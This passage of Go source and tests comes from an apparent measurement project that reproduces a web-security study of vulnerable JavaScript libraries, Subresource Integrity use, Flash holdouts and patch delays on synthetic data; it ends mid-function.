func splitByDomain(obs []store.Observation, shards int) [][]store.Observation {
	parts := make([][]store.Observation, shards)
	for _, o := range obs {
		h := fnv.New32a()
		_, _ = h.Write([]byte(o.Domain))
		s := int(h.Sum32() % uint32(shards))
		parts[s] = append(parts[s], o)
	}
	return parts
}

// checkMerge asserts Merge(split(obs)) ≡ Observe(obs) for one collector.
func checkMerge[T Collector](t *testing.T, all []store.Observation, parts [][]store.Observation, mk func() T, merge func(dst, src T)) {
	t.Helper()
	serial := mk()
	for _, o := range all {
		serial.Observe(o)
	}
	merged := mk()
	nonEmpty := 0
	for _, part := range parts {
		if len(part) > 0 {
			nonEmpty++
		}
		shard := mk()
		for _, o := range part {
			shard.Observe(o)
		}
		merge(merged, shard)
	}
	if nonEmpty == 0 {
		t.Fatal("degenerate split: no non-empty shard")
	}
	if !reflect.DeepEqual(serial, merged) {
		t.Errorf("%s: sharded merge diverges from serial state", serial.Name())
	}
}

func TestMergeEquivalenceAllCollectors(t *testing.T) {
	for _, seed := range []int64{1, 7, 42} {
		obs := randomStream(seed)
		for _, shards := range []int{2, 3, 7} {
			t.Run(fmt.Sprintf("seed=%d/shards=%d", seed, shards), func(t *testing.T) {
				parts := splitByDomain(obs, shards)
				for s, part := range parts {
					if len(part) == 0 {
						t.Fatalf("shard %d/%d received no observations", s, shards)
					}
				}
				checkMerge(t, obs, parts,
					func() *Collection { return NewCollection(streamWeeks) }, (*Collection).Merge)
				checkMerge(t, obs, parts,
					func() *LibraryStats { return NewLibraryStats(streamWeeks) }, (*LibraryStats).Merge)
				checkMerge(t, obs, parts,
					func() *VulnPrevalence { return NewVulnPrevalence(streamWeeks) }, (*VulnPrevalence).Merge)
				checkMerge(t, obs, parts,
					func() *UpdateDelay { return NewUpdateDelay(streamWeeks) }, (*UpdateDelay).Merge)
				checkMerge(t, obs, parts,
					func() *SRI { return NewSRI(streamWeeks) }, (*SRI).Merge)
				checkMerge(t, obs, parts,
					func() *Flash { return NewFlash(streamWeeks, streamDomains) }, (*Flash).Merge)
				checkMerge(t, obs, parts,
					func() *WordPress { return NewWordPress(streamWeeks) }, (*WordPress).Merge)
				checkMerge(t, obs, parts,
					func() *Discontinued { return NewDiscontinued(streamWeeks) }, (*Discontinued).Merge)
				checkMerge(t, obs, parts,
					func() *Regressions { return NewRegressions(streamWeeks) }, (*Regressions).Merge)
			})
		}
	}
}

// TestMergeIntoEmptyIsIdentity pins the algebra the sharded pipeline builds
// on: merging any collector into a fresh one reproduces it exactly (the
// fresh collector is a neutral element).
func TestMergeIntoEmptyIsIdentity(t *testing.T) {
	obs := randomStream(5)
	whole := [][]store.Observation{obs}
	// A single "shard" carrying the full stream, merged into an empty
	// collector, must equal the serial collector.
	checkMergeIdentity := func(t *testing.T) {
		checkMerge(t, obs, append(whole, nil),
			func() *Collection { return NewCollection(streamWeeks) }, (*Collection).Merge)
		checkMerge(t, obs, append(whole, nil),
			func() *LibraryStats { return NewLibraryStats(streamWeeks) }, (*LibraryStats).Merge)
		checkMerge(t, obs, append(whole, nil),
			func() *VulnPrevalence { return NewVulnPrevalence(streamWeeks) }, (*VulnPrevalence).Merge)
		checkMerge(t, obs, append(whole, nil),
			func() *UpdateDelay { return NewUpdateDelay(streamWeeks) }, (*UpdateDelay).Merge)
		checkMerge(t, obs, append(whole, nil),
			func() *SRI { return NewSRI(streamWeeks) }, (*SRI).Merge)
		checkMerge(t, obs, append(whole, nil),
			func() *Flash { return NewFlash(streamWeeks, streamDomains) }, (*Flash).Merge)
		checkMerge(t, obs, append(whole, nil),
			func() *WordPress { return NewWordPress(streamWeeks) }, (*WordPress).Merge)
		checkMerge(t, obs, append(whole, nil),
			func() *Discontinued { return NewDiscontinued(streamWeeks) }, (*Discontinued).Merge)
		checkMerge(t, obs, append(whole, nil),
			func() *Regressions { return NewRegressions(streamWeeks) }, (*Regressions).Merge)
	}
	checkMergeIdentity(t)
}

// TestMergeGroundTruthStream re-runs the equivalence over a realistic
// generator stream (the same source the direct pipeline consumes), so the
// property holds on production-shaped data, not just the synthetic walk.
func TestMergeGroundTruthStream(t *testing.T) {
	src := truthObservations(t, 160, 20, 3)
	parts := splitByDomain(src, 4)
	checkMerge(t, src, parts,
		func() *Collection { return NewCollection(20) }, (*Collection).Merge)
	checkMerge(t, src, parts,
		func() *LibraryStats { return NewLibraryStats(20) }, (*LibraryStats).Merge)
	checkMerge(t, src, parts,
		func() *VulnPrevalence { return NewVulnPrevalence(20) }, (*VulnPrevalence).Merge)
	checkMerge(t, src, parts,
		func() *UpdateDelay { return NewUpdateDelay(20) }, (*UpdateDelay).Merge)
	checkMerge(t, src, parts,
		func() *SRI { return NewSRI(20) }, (*SRI).Merge)
	checkMerge(t, src, parts,
		func() *Flash { return NewFlash(20, 160) }, (*Flash).Merge)
	checkMerge(t, src, parts,
		func() *WordPress { return NewWordPress(20) }, (*WordPress).Merge)
	checkMerge(t, src, parts,
		func() *Discontinued { return NewDiscontinued(20) }, (*Discontinued).Merge)
	checkMerge(t, src, parts,
		func() *Regressions { return NewRegressions(20) }, (*Regressions).Merge)
}
