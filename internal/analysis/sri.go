package analysis

import (
	"sort"

	"clientres/internal/cdn"
	"clientres/internal/store"
)

// SRI measures Subresource Integrity and crossorigin hygiene (Section 6.5,
// Figure 10) and the untrustful version-control-hosted inclusions
// (Table 6).
type SRI struct {
	weeks int
	// Weekly counts of sites with ≥1 external library, split by whether at
	// least one external inclusion lacks integrity.
	sitesWithExternal *weekSeries
	sitesMissingSRI   *weekSeries

	// crossorigin value counts among integrity-bearing inclusions.
	crossorigin map[string]int

	// Version-control hosting.
	vcSites    *weekSeries
	vcSitesSRI *weekSeries
	vcHosts    map[string]int
	// vcTopSites records the top-ranked sites loading from VC hosts:
	// domain → (best rank, hosts seen).
	vcSiteRank  map[string]int
	vcSiteHosts map[string]map[string]bool
}

// NewSRI builds the collector.
func NewSRI(weeks int) *SRI {
	return &SRI{
		weeks:             weeks,
		sitesWithExternal: newWeekSeries(),
		sitesMissingSRI:   newWeekSeries(),
		crossorigin:       map[string]int{},
		vcSites:           newWeekSeries(),
		vcSitesSRI:        newWeekSeries(),
		vcHosts:           map[string]int{},
		vcSiteRank:        map[string]int{},
		vcSiteHosts:       map[string]map[string]bool{},
	}
}

// Name implements Collector.
func (s *SRI) Name() string { return "sri" }

// Observe implements Collector.
func (s *SRI) Observe(obs store.Observation) {
	if !obs.OK() {
		return
	}
	external, missing := 0, 0
	vc, vcWithSRI := 0, 0
	for _, lib := range obs.Libs {
		if !lib.External {
			continue
		}
		external++
		if !lib.SRI {
			missing++
		} else {
			s.crossorigin[lib.Crossorigin]++
		}
		if cdn.IsVersionControl(lib.Host) {
			vc++
			s.vcHosts[lib.Host]++
			if lib.SRI {
				vcWithSRI++
			}
		}
	}
	if external > 0 {
		s.sitesWithExternal.add(obs.Week, 1)
		if missing > 0 {
			s.sitesMissingSRI.add(obs.Week, 1)
		}
	}
	if vc > 0 {
		s.vcSites.add(obs.Week, 1)
		if vcWithSRI == vc {
			s.vcSitesSRI.add(obs.Week, 1)
		}
		if r, ok := s.vcSiteRank[obs.Domain]; !ok || obs.Rank < r {
			s.vcSiteRank[obs.Domain] = obs.Rank
		}
		hosts := s.vcSiteHosts[obs.Domain]
		if hosts == nil {
			hosts = map[string]bool{}
			s.vcSiteHosts[obs.Domain] = hosts
		}
		for _, lib := range obs.Libs {
			if lib.External && cdn.IsVersionControl(lib.Host) {
				hosts[lib.Host] = true
			}
		}
	}
}

// Merge folds another SRI's aggregates into s. The two collectors must
// have observed disjoint shards of the same study (see Collector).
func (s *SRI) Merge(o *SRI) {
	s.sitesWithExternal.merge(o.sitesWithExternal)
	s.sitesMissingSRI.merge(o.sitesMissingSRI)
	mergeCounts(s.crossorigin, o.crossorigin)
	s.vcSites.merge(o.vcSites)
	s.vcSitesSRI.merge(o.vcSitesSRI)
	mergeCounts(s.vcHosts, o.vcHosts)
	mergeMinRank(s.vcSiteRank, o.vcSiteRank)
	for dom, hosts := range o.vcSiteHosts {
		dst := s.vcSiteHosts[dom]
		if dst == nil {
			dst = map[string]bool{}
			s.vcSiteHosts[dom] = dst
		}
		for h := range hosts {
			dst[h] = true
		}
	}
}

// MissingSRIShare returns the average share of external-library sites that
// have at least one external inclusion without integrity (the paper's
// 99.7 %).
func (s *SRI) MissingSRIShare() float64 {
	return meanRatio(s.sitesMissingSRI.Series(s.weeks), s.sitesWithExternal.Series(s.weeks))
}

// SRISeries returns the Figure 10 weekly pair: sites with at least one
// integrity-less external library, and sites where every external library
// carries integrity.
func (s *SRI) SRISeries() (missing, fullyCovered []int) {
	withExt := s.sitesWithExternal.Series(s.weeks)
	miss := s.sitesMissingSRI.Series(s.weeks)
	covered := make([]int, s.weeks)
	for i := range covered {
		covered[i] = withExt[i] - miss[i]
	}
	return miss, covered
}

// CrossoriginShares returns the value distribution of the crossorigin
// attribute among integrity-bearing inclusions (the paper: 97.1 %
// anonymous, 1.9 % use-credentials).
func (s *SRI) CrossoriginShares() map[string]float64 {
	total := 0
	for _, n := range s.crossorigin {
		total += n
	}
	out := map[string]float64{}
	if total == 0 {
		return out
	}
	for val, n := range s.crossorigin {
		key := val
		if key == "" {
			key = "(absent)"
		}
		out[key] = float64(n) / float64(total)
	}
	return out
}

// MeanVCSites returns the average weekly count of sites loading libraries
// from version-control hosts (the paper's ~1,670 of 782K).
func (s *SRI) MeanVCSites() float64 { return meanInt(s.vcSites.Series(s.weeks)) }

// VCWithSRIShare returns the share of those sites where every VC-hosted
// inclusion carries integrity (the paper's 0.6 %).
func (s *SRI) VCWithSRIShare() float64 {
	return meanRatio(s.vcSitesSRI.Series(s.weeks), s.vcSites.Series(s.weeks))
}

// VCHostCount is one Table 6 aggregate row.
type VCHostCount struct {
	Host  string
	Count int
}

// TopVCHosts returns the most-used version-control hosts.
func (s *SRI) TopVCHosts(n int) []VCHostCount {
	var all []VCHostCount
	for host, cnt := range s.vcHosts {
		all = append(all, VCHostCount{Host: host, Count: cnt})
	}
	sort.Slice(all, func(i, j int) bool {
		if all[i].Count != all[j].Count {
			return all[i].Count > all[j].Count
		}
		return all[i].Host < all[j].Host
	})
	if n > len(all) {
		n = len(all)
	}
	return all[:n]
}

// VCSite is one Table 6 site row: a site loading libraries from
// version-control hosts.
type VCSite struct {
	Domain string
	Rank   int
	Hosts  []string
}

// TopVCSites returns the best-ranked sites using VC-hosted libraries,
// rank ascending (the paper's Table 6 looked at the top 10K).
func (s *SRI) TopVCSites(n int) []VCSite {
	var all []VCSite
	for domain, rank := range s.vcSiteRank {
		var hosts []string
		for h := range s.vcSiteHosts[domain] {
			hosts = append(hosts, h)
		}
		sort.Strings(hosts)
		all = append(all, VCSite{Domain: domain, Rank: rank, Hosts: hosts})
	}
	sort.Slice(all, func(i, j int) bool { return all[i].Rank < all[j].Rank })
	if n > len(all) {
		n = len(all)
	}
	return all[:n]
}
