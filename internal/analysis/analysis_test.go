package analysis

import (
	"sync"
	"testing"
	"time"

	"clientres/internal/webgen"
)

// shared pipeline run over a moderate synthetic population; built once.
var (
	once sync.Once

	eco   *webgen.Ecosystem
	coll  *Collection
	libs  *LibraryStats
	vuln  *VulnPrevalence
	delay *UpdateDelay
	sri   *SRI
	flash *Flash
	wp    *WordPress
	disc  *Discontinued
	regr  *Regressions
)

func pipeline(t *testing.T) {
	t.Helper()
	once.Do(func() {
		eco = webgen.New(webgen.Config{Domains: 8000, Seed: 17})
		weeks := eco.Cfg.Weeks
		coll = NewCollection(weeks)
		libs = NewLibraryStats(weeks)
		vuln = NewVulnPrevalence(weeks)
		delay = NewUpdateDelay(weeks)
		sri = NewSRI(weeks)
		flash = NewFlash(weeks, eco.Cfg.Domains)
		wp = NewWordPress(weeks)
		disc = NewDiscontinued(weeks)
		regr = NewRegressions(weeks)
		r := NewRunner(coll, libs, vuln, delay, sri, flash, wp, disc, regr)
		TruthSource{Eco: eco}.Run(r)
	})
}

func within(t *testing.T, name string, got, want, tol float64) {
	t.Helper()
	if got < want-tol || got > want+tol {
		t.Errorf("%s = %.4f, want %.4f ± %.4f", name, got, want, tol)
	}
}

func TestCollectionRate(t *testing.T) {
	pipeline(t)
	mean := coll.MeanCollected()
	frac := mean / float64(eco.Cfg.Domains)
	// Paper: 782,300 of 1M collected weekly on average (78.2 %).
	within(t, "collected share", frac, 0.782, 0.06)
	series := coll.CollectedSeries()
	if len(series) != eco.Cfg.Weeks {
		t.Fatalf("series length %d", len(series))
	}
	// Collection declines over time as domains die.
	if series[len(series)-1] >= series[0] {
		t.Errorf("collection should decline: first %d last %d", series[0], series[len(series)-1])
	}
}

func TestResourceShares(t *testing.T) {
	pipeline(t)
	shares := map[string]float64{}
	for _, rs := range coll.ResourceShares() {
		shares[rs.Resource] = rs.Mean
	}
	within(t, "JavaScript", shares["JavaScript"], 0.947, 0.03)
	within(t, "CSS", shares["CSS"], 0.884, 0.03)
	within(t, "Favicon", shares["Favicon"], 0.550, 0.03)
	within(t, "imported-HTML", shares["imported-HTML"], 0.318, 0.03)
	within(t, "XML", shares["XML"], 0.256, 0.03)
	if shares["Flash"] > 0.024 || shares["Flash"] <= 0 {
		t.Errorf("Flash share = %.4f, want small positive", shares["Flash"])
	}
}

func TestTable1(t *testing.T) {
	pipeline(t)
	rows := libs.Table1()
	if len(rows) != 15 {
		t.Fatalf("Table 1 rows = %d", len(rows))
	}
	byslug := map[string]Table1Row{}
	for _, r := range rows {
		byslug[r.Slug] = r
	}
	within(t, "jquery usage", byslug["jquery"].MeanUsage, 0.640, 0.05)
	within(t, "bootstrap usage", byslug["bootstrap"].MeanUsage, 0.215, 0.04)
	within(t, "jquery-migrate usage", byslug["jquery-migrate"].MeanUsage, 0.208, 0.05)
	within(t, "jquery internal", byslug["jquery"].InternalPct, 0.592, 0.06)
	within(t, "jquery CDN", byslug["jquery"].CDNPct, 0.961, 0.04)
	within(t, "polyfill external", byslug["polyfill"].ExternalPct, 0.855, 0.08)
	if byslug["jquery"].Dominant != "1.12.4" {
		t.Errorf("jquery dominant = %q, want 1.12.4", byslug["jquery"].Dominant)
	}
	if byslug["bootstrap"].Dominant != "3.3.7" {
		t.Errorf("bootstrap dominant = %q, want 3.3.7", byslug["bootstrap"].Dominant)
	}
	if byslug["jquery"].VulnCount != 8 || byslug["bootstrap"].VulnCount != 7 {
		t.Error("vulnerability counts wrong")
	}
	if byslug["jquery"].VersionsFound < 40 {
		t.Errorf("jquery versions found = %d, want many", byslug["jquery"].VersionsFound)
	}
	if !byslug["swfobject"].Discontinued || !byslug["jquery-cookie"].Discontinued {
		t.Error("discontinued flags missing")
	}
}

func TestDistinctLibraries(t *testing.T) {
	pipeline(t)
	// Top 15 + the long tail ≈ the paper's 79 distinct libraries.
	n := libs.DistinctLibraries()
	if n < 60 || n > 85 {
		t.Errorf("distinct libraries = %d, want ~79", n)
	}
	within(t, "lib share of JS sites", libs.LibShareOfJSSites(), 0.97, 0.04)
}

func TestUsageTrends(t *testing.T) {
	pipeline(t)
	jq := libs.UsageSeries("jquery")
	// jQuery declines from ~67 % to ~63 % (Figure 3a).
	if jq[0] <= jq[len(jq)-1] {
		t.Errorf("jquery usage should decline: %.3f -> %.3f", jq[0], jq[len(jq)-1])
	}
	// Rising libraries rise (Figure 3b).
	for _, slug := range []string{"js-cookie", "popper", "polyfill"} {
		s := libs.UsageSeries(slug)
		if s[len(s)-1] <= s[0] {
			t.Errorf("%s usage should rise: %.4f -> %.4f", slug, s[0], s[len(s)-1])
		}
	}
	// The jQuery-Migrate drop window (Figure 3a).
	mig := libs.UsageSeries("jquery-migrate")
	before := mig[weekOfDate(time.Date(2020, 7, 6, 0, 0, 0, 0, time.UTC))]
	during := mig[weekOfDate(time.Date(2020, 11, 2, 0, 0, 0, 0, time.UTC))]
	if before-during < 0.04 {
		t.Errorf("migrate drop %.3f -> %.3f too small", before, during)
	}
}

func TestVulnerablePrevalence(t *testing.T) {
	pipeline(t)
	cve := vuln.MeanVulnerableShare(false)
	tvv := vuln.MeanVulnerableShare(true)
	// Paper: 41.2 % (CVE) and 43.2 % (TVV). Our synthetic population runs
	// higher (~0.58/0.64) because it honours Table 1's dominant-old-version
	// distribution, which the paper's own per-CVE affected shares sit in
	// tension with. The shape constraints (TVV > CVE by a few points, same
	// order of magnitude) are the reproduction targets; EXPERIMENTS.md
	// records paper-vs-measured.
	within(t, "vulnerable share (CVE)", cve, 0.55, 0.12)
	within(t, "vulnerable share (TVV)", tvv, 0.60, 0.12)
	if tvv <= cve {
		t.Errorf("TVV share (%.3f) must exceed CVE share (%.3f)", tvv, cve)
	}
	// Mean vulnerabilities per page: paper reports 0.79 vs 0.97, though
	// its own per-CVE site counts imply more overlap; we assert the
	// ordering and a plausible band.
	mCVE := vuln.MeanVulnsPerSite(false)
	mTVV := vuln.MeanVulnsPerSite(true)
	if mCVE < 0.5 || mCVE > 2.3 {
		t.Errorf("mean vulns (CVE) = %.2f, want within [0.5, 2.3]", mCVE)
	}
	if mTVV <= mCVE {
		t.Error("TVV mean must exceed CVE mean")
	}
	if mTVV > mCVE*1.6 {
		t.Errorf("TVV mean (%.2f) implausibly far above CVE mean (%.2f)", mTVV, mCVE)
	}
}

func TestVulnCDFMonotone(t *testing.T) {
	pipeline(t)
	for _, useTVV := range []bool{false, true} {
		cdf := vuln.VulnCDF(useTVV)
		if len(cdf) == 0 {
			t.Fatal("empty CDF")
		}
		prev := 0.0
		for _, p := range cdf {
			if p.CDF < prev || p.CDF > 1.0001 {
				t.Fatalf("CDF not monotone in [0,1]: %+v", cdf)
			}
			prev = p.CDF
		}
		if cdf[len(cdf)-1].CDF < 0.9999 {
			t.Errorf("CDF must end at 1, got %.4f", cdf[len(cdf)-1].CDF)
		}
	}
}

func TestAdvisorySeries(t *testing.T) {
	pipeline(t)
	// CVE-2020-7656 (Figure 5a): TVV counts far exceed CVE counts.
	cve, tvv := vuln.AdvisorySeries("CVE-2020-7656")
	wLate := weekOfDate(time.Date(2021, 6, 7, 0, 0, 0, 0, time.UTC))
	if tvv[wLate] <= cve[wLate]*2 {
		t.Errorf("7656 TVV (%d) should dwarf CVE (%d)", tvv[wLate], cve[wLate])
	}
	// CVE-2020-11022 (Figure 5c): overstated — CVE counts exceed TVV.
	cve2, tvv2 := vuln.AdvisorySeries("CVE-2020-11022")
	if cve2[wLate] <= tvv2[wLate] {
		t.Errorf("11022 CVE (%d) should exceed TVV (%d)", cve2[wLate], tvv2[wLate])
	}
	// Before disclosure, both are zero.
	if cve[0] != 0 || tvv[0] != 0 {
		t.Error("advisory counted before disclosure")
	}
}

func TestVersionTrends(t *testing.T) {
	pipeline(t)
	// Figure 7a: 3.5.1 jumps around Dec 2020; 1.12.4 declines after.
	s351 := libs.VersionSeries("jquery", "3.5.1")
	s1124 := libs.VersionSeries("jquery", "1.12.4")
	wNov := weekOfDate(time.Date(2020, 11, 2, 0, 0, 0, 0, time.UTC))
	wMar := weekOfDate(time.Date(2021, 3, 1, 0, 0, 0, 0, time.UTC))
	if s351[wMar] <= s351[wNov]*2 {
		t.Errorf("3.5.1 jump missing: %d -> %d", s351[wNov], s351[wMar])
	}
	if s1124[wMar] >= s1124[wNov] {
		t.Errorf("1.12.4 should fall: %d -> %d", s1124[wNov], s1124[wMar])
	}
	// Figure 7b: the jump is WordPress-driven.
	wp351 := libs.VersionSeriesWordPress("jquery", "3.5.1")
	if wp351[wMar] < (s351[wMar]-s351[wNov])/2 {
		t.Errorf("WordPress should drive the 3.5.1 jump: wp %d total-jump %d",
			wp351[wMar], s351[wMar]-s351[wNov])
	}
	// Figure 6: top affected versions of CVE-2020-7656 exist and 1.9.0
	// adoption does not spike after disclosure.
	top := libs.TopVersions("jquery", 5)
	if len(top) != 5 {
		t.Fatalf("top versions = %v", top)
	}
}

func TestUpdateDelays(t *testing.T) {
	pipeline(t)
	resCVE := delay.Result(false, false)
	if resCVE.Updated == 0 {
		t.Fatal("no closed windows measured")
	}
	// Paper: 531.2 days on average under CVE ranges. The shape matters
	// more than the absolute, but we calibrate to land in the region.
	within(t, "mean delay (CVE)", resCVE.MeanDays, 531, 200)
	// Understated advisories under TVV ranges: 701.2 days — strictly worse.
	resTVVUnder := delay.Result(true, true)
	resCVEUnder := delay.Result(false, true)
	if resTVVUnder.Updated == 0 {
		t.Fatal("no TVV windows measured")
	}
	if resTVVUnder.MeanDays <= resCVEUnder.MeanDays {
		t.Errorf("TVV delay (%.1f) must exceed CVE delay (%.1f) for understated CVEs",
			resTVVUnder.MeanDays, resCVEUnder.MeanDays)
	}
	if resCVE.Censored == 0 {
		t.Error("some windows must remain open (frozen sites)")
	}
}

func TestSRIFindings(t *testing.T) {
	pipeline(t)
	within(t, "missing SRI share", sri.MissingSRIShare(), 0.997, 0.02)
	co := sri.CrossoriginShares()
	// Paper: 97.1 % anonymous, 1.9 % use-credentials. SRI itself is so
	// rare that at this population size the use-credentials tail may have
	// zero samples; assert anonymous dominance and the tail's bound.
	if co["anonymous"] < 0.85 {
		t.Errorf("anonymous share = %.4f, want ≥ 0.85 (~0.971)", co["anonymous"])
	}
	if co["use-credentials"] > 0.08 {
		t.Errorf("use-credentials share = %.4f, want ≤ 0.08 (~0.019)", co["use-credentials"])
	}
	if sri.MeanVCSites() <= 0 {
		t.Error("no version-control-hosted inclusions observed")
	}
	if share := sri.VCWithSRIShare(); share > 0.10 {
		t.Errorf("VC-with-SRI share = %.4f, want near the paper's 0.006", share)
	}
	hosts := sri.TopVCHosts(5)
	if len(hosts) == 0 {
		t.Fatal("no VC hosts")
	}
	sites := sri.TopVCSites(10)
	if len(sites) == 0 {
		t.Fatal("no VC sites")
	}
	for i := 1; i < len(sites); i++ {
		if sites[i].Rank < sites[i-1].Rank {
			t.Error("VC sites not rank-sorted")
		}
	}
}

func TestFlashFindings(t *testing.T) {
	pipeline(t)
	all, top10k, top1k := flash.UsageSeries()
	if all[0] == 0 {
		t.Fatal("no Flash sites at start")
	}
	endRatio := float64(all[len(all)-1]) / float64(all[0])
	if endRatio < 0.18 || endRatio > 0.55 {
		t.Errorf("Flash end ratio = %.2f, want ~0.32", endRatio)
	}
	for w := range all {
		if top1k[w] > top10k[w] || top10k[w] > all[w] {
			t.Fatal("band nesting violated")
		}
	}
	if flash.MeanPostEOL() <= 0 {
		t.Error("post-EOL Flash usage should be positive")
	}
	within(t, "insecure AllowScriptAccess share", flash.MeanInsecureShare(), 0.247, 0.09)
	early := flash.InsecureShareAt(4)
	late := flash.InsecureShareAt(eco.Cfg.Weeks - 4)
	if late <= early {
		t.Errorf("insecure share should rise: %.3f -> %.3f", early, late)
	}
	countries := flash.PostEOLCountries()
	if len(countries) == 0 {
		t.Fatal("no post-EOL countries")
	}
	// China leads the holdouts (the paper's case study).
	if countries[0].Country != "CN" && countries[1].Country != "CN" {
		t.Errorf("CN should lead post-EOL holdouts: %+v", countries[:2])
	}
}

func TestFlashHoldoutCaseStudy(t *testing.T) {
	pipeline(t)
	holdouts := flash.TopBandHoldouts()
	for i := 1; i < len(holdouts); i++ {
		if holdouts[i].Rank < holdouts[i-1].Rank {
			t.Fatal("holdouts not rank-sorted")
		}
	}
	for _, h := range holdouts {
		if h.Rank > eco.Cfg.Domains/10 {
			t.Errorf("holdout %s rank %d outside the case-study band", h.Domain, h.Rank)
		}
	}
	v, inv := flash.HoldoutVisibility()
	if v+inv != len(holdouts) {
		t.Errorf("visibility split %d+%d != %d holdouts", v, inv, len(holdouts))
	}
	// The paper found a near-even visible/invisible split (6 vs 7); with
	// swfobject-driven embeds always visible, visible should not vanish.
	if len(holdouts) > 3 && (v == 0 || inv == 0) {
		t.Errorf("expected both visible and invisible holdouts, got %d vs %d", v, inv)
	}
}

func TestWordPressFindings(t *testing.T) {
	pipeline(t)
	within(t, "WordPress share", wp.MeanShare(), 0.269, 0.04)
	rows := wp.Table4()
	if len(rows) != 10 {
		t.Fatalf("Table 4 rows = %d", len(rows))
	}
	byID := map[string]Table4Row{}
	for _, r := range rows {
		byID[r.Advisory.ID] = r
	}
	// Recent CVEs hit most WP sites; ancient ones nearly none (the paper's
	// 97.7 % vs 0.36 % contrast). CVE-2021-44223 is the newest advisory
	// with in-study exposure (the Jan 2022 batch lands on the study's very
	// last snapshot).
	recent := byID["CVE-2021-44223"].MeanAffected
	ancient := byID["CVE-2009-2853"].MeanAffected
	if recent <= ancient*10 || recent == 0 {
		t.Errorf("recent CVE (%.1f) should dwarf ancient (%.1f)", recent, ancient)
	}
	wpSites := float64(wp.DistinctVersions())
	if wpSites < 10 {
		t.Errorf("distinct WP versions = %.0f, want a spread", wpSites)
	}
}

func TestDiscontinuedFindings(t *testing.T) {
	pipeline(t)
	if disc.MeanUsage("swfobject") <= 0 || disc.MeanUsage("jquery-cookie") <= 0 {
		t.Error("discontinued library usage should be positive")
	}
	ever, migrated := disc.MigrationStats()
	if ever == 0 {
		t.Fatal("no jquery-cookie users")
	}
	if migrated == 0 || migrated >= ever {
		t.Errorf("migration stats implausible: %d of %d", migrated, ever)
	}
}

func TestMeanAffectedTable2Shape(t *testing.T) {
	pipeline(t)
	// CVE-2020-11023 affects far more sites than CVE-2014-6071 under CVE
	// ranges (Table 2's 56.2 % vs 2.1 %).
	big := vuln.MeanAffected("CVE-2020-11023", false)
	small := vuln.MeanAffected("CVE-2014-6071", false)
	if big <= small*5 {
		t.Errorf("11023 (%.1f) should dwarf 6071 (%.1f)", big, small)
	}
	// 6071 under TVV is much larger than under CVE (42.9 % vs 2.1 %).
	smallTVV := vuln.MeanAffected("CVE-2014-6071", true)
	if smallTVV <= small*3 {
		t.Errorf("6071 TVV (%.1f) should dwarf CVE (%.1f)", smallTVV, small)
	}
}
