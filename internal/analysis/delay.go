package analysis

import (
	"time"

	"clientres/internal/store"
	"clientres/internal/vulndb"
)

// UpdateDelay measures the window of vulnerability (Section 7): for every
// (site, advisory) pair where the site used an affected version after the
// patched version's release, how many days passed until the site was first
// observed on a non-affected version of the same library.
//
// Unlike the other collectors, UpdateDelay requires observations to arrive
// in non-decreasing week order per domain (the state machine tracks
// affected → updated transitions); every source in this module iterates
// weeks in ascending order, satisfying that.
type UpdateDelay struct {
	weeks int
	// ruleset per advisory id: both rulesets tracked in parallel.
	states map[delayKey]*delayState
	byLib  map[string][]vulndb.Advisory
}

type delayKey struct {
	domain string
	advID  string
	tvv    bool
}

type delayState struct {
	// affectedSince is the date the measurable window opened: the later of
	// the patch release and the first affected observation.
	affectedSince time.Time
	affected      bool
	updated       bool
	delayDays     int
}

// NewUpdateDelay builds the collector.
func NewUpdateDelay(weeks int) *UpdateDelay {
	u := &UpdateDelay{
		weeks:  weeks,
		states: map[delayKey]*delayState{},
		byLib:  map[string][]vulndb.Advisory{},
	}
	for _, a := range vulndb.Advisories() {
		if a.Patched.IsZero() {
			continue // no patched version: no window to measure
		}
		u.byLib[a.Lib] = append(u.byLib[a.Lib], a)
	}
	return u
}

// Name implements Collector.
func (u *UpdateDelay) Name() string { return "update-delay" }

// Observe implements Collector.
func (u *UpdateDelay) Observe(obs store.Observation) {
	if !obs.OK() {
		return
	}
	date := WeekDate(obs.Week)
	for _, lib := range obs.Libs {
		advisories := u.byLib[lib.Slug]
		if len(advisories) == 0 {
			continue
		}
		ver, ok := parseVersion(lib.Version)
		if !ok {
			continue
		}
		for _, adv := range advisories {
			if date.Before(adv.PatchDate) {
				// The patch is not out yet; nothing measurable.
				continue
			}
			u.step(obs.Domain, adv.ID, false, adv.CVERange.Contains(ver), adv.PatchDate, date)
			u.step(obs.Domain, adv.ID, true, adv.EffectiveTrueRange().Contains(ver), adv.PatchDate, date)
		}
	}
}

func (u *UpdateDelay) step(domain, advID string, tvv, affected bool, patchDate, date time.Time) {
	key := delayKey{domain: domain, advID: advID, tvv: tvv}
	st := u.states[key]
	switch {
	case affected:
		if st == nil {
			since := patchDate
			if date.After(since) {
				// First affected observation opens the window (a site
				// adopting a vulnerable version late is measured from
				// then, not from the patch date).
				since = date
			}
			u.states[key] = &delayState{affectedSince: since, affected: true}
			return
		}
		if st.updated {
			return // regression after update: window already measured
		}
		st.affected = true
	case st != nil && st.affected && !st.updated:
		// First non-affected observation of the same library: updated.
		st.updated = true
		st.delayDays = int(date.Sub(st.affectedSince).Hours() / 24)
	}
}

// Merge folds another UpdateDelay's state into u. Exact when the two
// collectors observed disjoint domain sets (the sharding contract, see
// Collector): each (domain, advisory) state machine then lives wholly in
// one of the two. Overlapping keys cannot be replayed and resolve by a
// deterministic, commutative rule: a closed window wins over an open one,
// then the earlier window start, then the shorter delay.
func (u *UpdateDelay) Merge(o *UpdateDelay) {
	for key, os := range o.states {
		st := u.states[key]
		if st == nil {
			cp := *os
			u.states[key] = &cp
			continue
		}
		switch {
		case os.updated && !st.updated:
			*st = *os
		case os.updated == st.updated:
			if os.affectedSince.Before(st.affectedSince) ||
				(os.affectedSince.Equal(st.affectedSince) && os.delayDays < st.delayDays) {
				*st = *os
			}
		}
	}
}

// Result summarizes the window of vulnerability under one ruleset.
type DelayResult struct {
	// Updated is the number of (site, advisory) windows that closed.
	Updated int
	// Censored is the number still open at the end of the study.
	Censored int
	// MeanDays is the average closed-window length (the paper's 531.2 and
	// 701.2 day headline numbers).
	MeanDays float64
	// PerAdvisory maps advisory ID to its mean closed-window length.
	PerAdvisory map[string]float64
}

// Result computes the aggregate for the CVE ruleset (useTVV=false) or the
// TVV ruleset. understatedOnly restricts to advisories whose published TVV
// differs from the CVE range toward more versions — the population behind
// the paper's 701.2-day finding.
func (u *UpdateDelay) Result(useTVV, understatedOnly bool) DelayResult {
	include := map[string]bool{}
	for _, a := range vulndb.Advisories() {
		if understatedOnly {
			cat, _ := vulndb.CatalogFor(a.Lib)
			acc := a.ClassifyAccuracy(cat)
